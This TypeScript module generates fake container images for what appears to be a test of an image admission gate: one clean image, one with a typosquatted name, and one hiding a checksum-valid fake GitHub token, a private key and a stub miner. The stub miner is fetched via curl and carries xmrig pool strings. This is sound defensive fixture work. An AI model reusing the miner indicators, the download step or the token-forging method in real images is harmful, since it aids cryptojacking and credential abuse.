import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { crc32 } from 'node:zlib';
import { type Built, buildImage, buildIndex, buildLayer, type LayerFile } from './image-builder.ts';

/** One image of the demonstration, and what the gate is expected to say. */
export interface DemoImage {
  readonly repository: string;
  readonly tag: string;
  readonly built: Built;
  readonly about: string;
  readonly expected: 'admitted' | 'refused';
}

const BASE: readonly LayerFile[] = [
  { path: 'bin', type: 'directory' },
  { path: 'bin/shop', content: '#!/bin/sh\necho "fresh fish"\n', mode: 0o755 },
  { path: 'etc/passwd', content: 'root:x:0:0::/:/bin/sh\nshop:x:1000:1000::/srv:/bin/sh\n' },
  { path: 'etc/os-release', content: 'NAME="Demo"\n' },
];
const PLATFORMS = ['amd64', 'arm64'].map((architecture) => ({ os: 'linux', architecture }));
const CONFIG = { User: '1000', Entrypoint: ['/bin/shop'], ExposedPorts: { '8080/tcp': {} } };

/** The three images: nothing in them is real, and no secret is the same in two runs. */
export async function makeDemoImages(): Promise<readonly DemoImage[]> {
  return [
    {
      repository: 'acme/shop',
      tag: '1.0',
      built: await cleanImage(),
      about: 'two platforms, signed by the release key',
      expected: 'admitted',
    },
    {
      repository: 'acme/worker',
      tag: '1.0',
      built: await leakyImage(),
      about: 'signed too, but with a token that a later layer "deleted", and a miner',
      expected: 'refused',
    },
    {
      repository: 'acrne/shop',
      tag: '1.0',
      built: await cleanImage(),
      about: 'read the name twice: a-c-r-n-e',
      expected: 'refused',
    },
  ];
}

/** The base that the images stand on, for both platforms; without it nobody knows whose their layers are. */
export async function makeDemoBase(): Promise<Built> {
  const layers = [await buildLayer(BASE)];
  const steps = ['ADD rootfs.tar / # demo base'];
  return buildIndex(
    PLATFORMS.map((platform) => ({
      platform,
      built: buildImage({ layers, config: CONFIG, platform, steps }),
    })),
  );
}

async function cleanImage(): Promise<Built> {
  const base = await buildLayer(BASE);
  const app = await buildLayer([{ path: 'srv/menu.txt', content: 'cod, herring, mackerel\n' }], 'zstd');
  const steps = ['ADD rootfs.tar / # demo base', 'COPY menu.txt /srv/ # buildkit'];
  return buildIndex(
    PLATFORMS.map((platform) => ({
      platform,
      built: buildImage({ layers: [base, app], config: CONFIG, platform, steps }),
    })),
  );
}

async function leakyImage(): Promise<Built> {
  const layers = [
    await buildLayer(BASE),
    await buildLayer([
      { path: 'srv/.env', content: `GITHUB_TOKEN=${inventToken()}\n` },
      { path: 'srv/deploy.key', content: inventKey() },
    ]),
    await buildLayer([{ path: 'srv/.wh..env' }]),
    await buildLayer([{ path: 'usr/bin/dbus-helper', content: inventMiner(), mode: 0o755 }]),
  ];
  const steps = [
    'ADD rootfs.tar / # demo base',
    'COPY .env deploy.key /srv/ # buildkit',
    'RUN rm /srv/.env # buildkit',
    'RUN curl -s https://example.invalid/helper -o /usr/bin/dbus-helper # buildkit',
  ];
  return buildImage({ layers, config: CONFIG, steps });
}

/** A token of GitHub's form with a checksum that holds, of random letters: it opens nothing. */
function inventToken(): string {
  const body = [...randomBytes(30)].map((byte) => ALPHABET[byte % 62]).join('');
  return `${['gh', 'p_'].join('')}${body}${base62(crc32(body)).padStart(6, '0')}`;
}

function inventKey(): string {
  const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  return privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
}

/** The head of an ELF file and the words of a miner; it runs nowhere. */
function inventMiner(): Uint8Array {
  const head = Buffer.alloc(64);
  head.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
  const words = [
    'stratum+tcp://pool.supportxmr.com:3333',
    'donate.v2.xmrig.com:3333',
    'xmrig.com/wizard',
    '--donate-level',
    'huge-pages-jit',
    'max-threads-hint',
    'mining.subscribe',
    'cn-heavy/xhv',
    'argon2/chukwav2',
    'no active pools, stop mining',
  ];
  return Buffer.concat([head, Buffer.from(`${words.join('\0')}\0`)]);
}

const ALPHABET = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';

function base62(value: number): string {
  const rest = Math.floor(value / 62);
  return `${rest === 0 ? '' : base62(rest)}${ALPHABET[value % 62]}`;
}
